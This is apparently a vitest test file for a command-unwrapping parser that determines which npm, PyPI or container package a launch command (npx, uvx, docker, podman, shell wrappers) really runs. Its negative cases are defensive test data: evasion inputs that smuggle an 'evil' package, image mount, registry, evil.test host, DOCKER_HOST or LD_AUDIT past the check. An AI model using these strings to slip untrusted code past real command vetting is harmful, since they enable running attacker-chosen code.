import { expect, it } from 'vitest'
import { steeringVariables } from '../decideEnvironmentVariables'
import { programName, unwrapCommand } from './unwrapCommand'

const read = (line: string, variables: readonly string[] = []) => {
  const [command = '', ...args] = line.split('|')
  const { targets, clear, variables: all } = unwrapCommand(command, args, variables)
  return {
    clear: clear && steeringVariables(all).length === 0,
    runs: targets.map(({ program, packages }) => [program, ...packages.map(({ from, name }) => `${from}:${name}`)].join(' ')),
  }
}

it.each([
  ['npx|-y|@atlas/files@1.2.0|/srv', ['npx npm:@atlas/files']],
  ['/usr/bin/npx|--yes|--package=@atlas/a|-p|b|a', ['/usr/bin/npx npm:@atlas/a npm:b']],
  ['C:\\nodejs\\npx.CMD|server-x', ['C:\\nodejs\\npx.CMD npm:server-x']],
  ['npx|safe@npm:evil', ['npx npm:evil']],
  ['env|-i|A=1|npx|x', ['npx npm:x']],
  ['env|-S|npx -y x', ['npx npm:x']],
  ['sh|-c|npx -y x', ['npx npm:x']],
  ['bash|-lc|A=1 exec npx "x"', ['npx npm:x']],
  ['uv|--directory|/srv/x|run|server.py', ['uv']],
  ['uv|run|python|-m|my_server', ['uv', 'python']],
  ['cmd|/d|/c|npx|-y|x', ['npx npm:x']],
  ['nice|-n|5|env|npx|x', ['npx npm:x']],
  ['npm|exec|--|x', ['npm npm:x']],
  ['bun|x|y', ['bun npm:y']],
  ['node|/usr/lib/node_modules/npm/bin/npx-cli.js|x', ['/usr/lib/node_modules/npm/bin/npx-cli.js npm:x']],
  ['uvx|--from|mcp_Server.git[all]==1.0|mcp-server-git', ['uvx pypi:mcp-server-git']],
  ['uv|tool|run|x>=2', ['uv pypi:x']],
  ['docker|run|-i|--rm|-e|KEY|--mount=type=bind|ghcr.io/atlas/x:1@sha256:ab', ['docker image:ghcr.io/atlas/x']],
  ['docker|container|run|-it|mcp/fetch', ['docker image:docker.io/mcp/fetch']],
  ['docker|run|docker.io/redis:7', ['docker image:docker.io/library/redis']],
  ['docker|run|index.docker.io/redis', ['docker image:docker.io/library/redis']],
  ['docker|run|--mount|type=bind,src=/srv,dst=/data,readonly|mcp/files|/data', ['docker image:docker.io/mcp/files']],
  ['docker|run|--mount=type=volume,dst=/d,volume-opt=type=nfs|mcp/files', ['docker image:docker.io/mcp/files']],
  ['podman|run|--pull=newer|docker.io/mcp/fetch', ['podman image:docker.io/mcp/fetch']],
  ['podman|run|-i|docker.io/mcp/fetch', ['podman image:docker.io/mcp/fetch']],
  ['podman|run|localhost:5000/x', ['podman image:localhost:5000/x']],
  ['podman|run|atlas.test:443/x', ['podman image:atlas.test:443/x']],
  ['node|server.js|-e', ['node']],
  ['python3.12|-m|my_server', ['python3.12']],
  ['/opt/atlas/server|--npx', ['/opt/atlas/server']],
  ['sh|-ec|npx x', ['npx npm:x']],
  ['bash|-c|-e|npx x', ['npx npm:x']],
  ['env|A.B=1|npx|x', ['npx npm:x']],
  ['node|--no-warnings|--max-old-space-size=4096|server.js', ['node']],
  ['python|-u|-m|my_server', ['python']],
  ['cmd|/c|npx -y @atlas/x', ['npx npm:@atlas/x']],
  ['npm|exec|x|--|--flag', ['npm npm:x']],
  ['uvx|-p|3.12|x@1.2.0', ['uvx pypi:x']],
  ['deno|run|-A|server.ts', ['deno']],
])('reads what %s comes down to', (line, runs) => {
  expect(read(line)).toEqual({ clear: true, runs })
})

it.each([
  // npm runs `evil` in all of these.
  ['npx|--yes=evil|@atlas/x'],
  ['npx|-y=evil|@atlas/x'],
  ['npx|-q=evil|@atlas/x'],
  ['npx|--offline=evil|@atlas/x'],
  ['npx|-yq|evil|@atlas/x'],
  ['npm|exec|-y|false|evil'],
  ['npm|exec|--yes|null|evil'],
  ['npx|-y|true|@atlas/x'],
  ['npx|--yes=true|@atlas/x'],
  ['npx|-p|@atlas/x'],
  ['npx|JSONStream'],
  ['npx|x@>=1'],
  ['npx|--bun|@atlas/x'],
  ['pnpm|dlx|--silent=evil|x'],
  ['pnpm|dlx|-y|x'],
  ['yarn|dlx|--quiet=evil|x'],
  ['bunx|--bun=evil|x'],
  ['bunx|-p|@atlas/x|evil'],
  ['uvx|python|-c|anything'],
  ['uvx|cp312'],
  ['uvx|--quiet=evil|x'],
  ['uvx|--from=-x|x'],
  ['podman|run|mcp/fetch'],
  ['docker|run|Evil/x'],
  ['docker|run|deadbeef'],
  ['docker|run|--rm=false|x'],
  ['docker|run|-itd|x'],
  // The daemon takes it for the id of an image that is here, whatever it is called.
  ['docker|run|sha256:abcd'],
  // A second image is downloaded and lies in the container.
  ['docker|run|--mount|type=image,source=evil/x,target=/evil|ghcr.io/atlas/x'],
  ['docker|run|--mount=type=bind,type=image,source=evil/x,target=/evil|ghcr.io/atlas/x'],
  ['docker|run|--mount=Type=IMAGE,source=evil/x,target=/evil|ghcr.io/atlas/x'],
  ['docker|run|--mount=type=bind,"type=image",source=evil/x,target=/evil|ghcr.io/atlas/x'],
  ['docker|run|--mount=source=evil/x,type=image,target=/evil|ghcr.io/atlas/x'],
  ['podman|run|--mount|type=image,source=evil/x,target=/evil|ghcr.io/atlas/x'],
  // podman takes the part before `:` for a way to get the image, here from a folder.
  ['podman|run|dir:80/x'],
  ['podman|run|oci-archive:80/x'],
  ['docker|run|--pull|evil/x|ghcr.io/atlas/x'],
  // docker 20.10 takes this for `never`, so that another image runs than the one that was meant.
  ['docker|run|--pull|newer|ghcr.io/atlas/x'],
  ['docker|compose|run|x'],
  ['docker|create|x'],
  ['docker|--context|x|run|x'],
  ['docker|-c|x|run|x'],
  ['podman|--remote|run|ghcr.io/atlas/x'],
  ['podman|run|--rootfs|/srv'],
  ['docker|run|--volumes-from|box|x'],
  ['sh|-c|cd /srv && npx x'],
  ['env|-C|/srv|npx|x'],
  ['env|--chdir=/srv|uvx|x'],
  ['zsh|-b|-c|npx x'],
  ['sh|-c|npx "\'x\'"'],
  ['sh|-c|mapfile -C npx x'],
  ['cmd|/c|call|npx|x'],
  ['cmd|/c|if 1==1 npx x'],
  ['cmd|/c|@npx|x'],
  ['node'],
  ['node|--inspect=0.0.0.0:1|server.js'],
  ['uv|run|https://evil.test/x.py'],
  ['npx|github:someone/thing'],
  ['npx|./here'],
  ['npx|x.tgz'],
  ['npx|x@https://evil.test/x'],
  ['npx|--registry=https://evil.test|x'],
  ['npx|-c|anything'],
  ['npx|-p|@atlas/a|sh|-c|anything'],
  ['uvx|--from|x|sh'],
  ['npx'],
  ['uvx|--index-url|https://evil.test|x'],
  ['uvx|git+https://evil.test/x'],
  ['docker|run|--unknown|x'],
  ['docker|exec|x'],
  ['docker|--host=tcp://evil.test|run|x'],
  ['sh|-c|$(npx x)'],
  ['sh|-c|npx "x'],
  ['sh|-c|echo a > b'],
  ['env|NODE_OPTIONS=--import=x|npx|x'],
  ['env|--new-option|npx|x'],
  ['node|-e|require("child_process")'],
  ['deno|run|-A|npm:x'],
  ['powershell|-Command|npx x'],
  ['env'],
  ['sudo|A=/node|/tmp/evil'],
  ['bash|-c|PATH+=:/x npx x'],
  ['bash|-c|eval npx x'],
  ['sh|-c|if true; then npx x; fi'],
  ['sh|-o|errexit|-c|npx x'],
  ['sh|-c|npx\u00a0@atlas/x'],
  ['sh|-c|cd /tmp && ./server'],
  ['sh|-c|cd /tmp && node npx.js x'],
  ['env|-C|/tmp|./server'],
  ['nice|-n|5|--|npx|x'],
  ['fish|-c|true|-c|npx x'],
  ['tcsh|-c|npx x'],
  ['npx2|x'],
  ['npx|x@.'],
  ['npx|x@..'],
  ['npm|exec|x|--registry=https://evil.test'],
  ['npm|exec|x|-c|anything'],
  ['uvx|--python|/tmp/evil|x'],
  ['uvx|--python|evil|x'],
  ['uvx|x@.'],
  ['uvx|x@folder'],
  ['pipx|run|x.tgz'],
  ['node|-pe|spawn("npx")'],
  ['node|--env-file=x|/usr/lib/node_modules/npm/bin/npx-cli.js|x'],
  ['python|-Ic|anything'],
  ['python|-X|utf8|-m|pipx|run|x'],
  ['perl|-E|system "npx"'],
  ['deno|x|npm'],
  ['bun|--bun|x|evil'],
  ['bun|exec|npx x'],
  ['npm|__proto__'],
  ['docker|constructor|x'],
  ['cmd|/cevil|/c|npx|x'],
  ['cmd|/c|evil.exe /node|x'],
  ['cmd|/c|evil/node|x'],
  ['cmd|/c|evil,/node'],
])('P01: does not claim to understand %s', (line) => {
  expect(read(line).clear).toBe(false)
})

it('does not understand a command whose variables change what runs; a proxy does not', () => {
  expect([read('npx|x', ['npm_config_registry']).clear, read('npx|x', ['HTTPS_PROXY']).clear]).toEqual([false, true])
  const steering = [
    'UV_DEFAULT_INDEX',
    'PIP_INDEX_URL',
    'DOCKER_HOST',
    'HOME',
    'XDG_CONFIG_HOME',
    'LD_AUDIT',
    'BASH_FUNC_npx%%',
    'BASH_FUNC_proxy',
  ]
  expect(steering.filter((name) => read('npx|x', [name]).clear)).toEqual([])
  expect(['NODE_ENV', 'GITHUB_TOKEN', 'PYTHONUNBUFFERED'].filter((name) => !read('npx|x', [name]).clear)).toEqual([])
})

it('gives up on a command that nests without end', () => {
  expect(unwrapCommand('env', Array<string>(50).fill('env'), []).clear).toBe(false)
})

it('knows a program by one name, wherever it lies', () => {
  expect(['/usr/bin/npx', 'NPX.CMD', 'C:\\x\\npx.exe', 'npx-cli.js', 'npx.cmd. '].map(programName)).toEqual(Array<string>(5).fill('npx'))
})
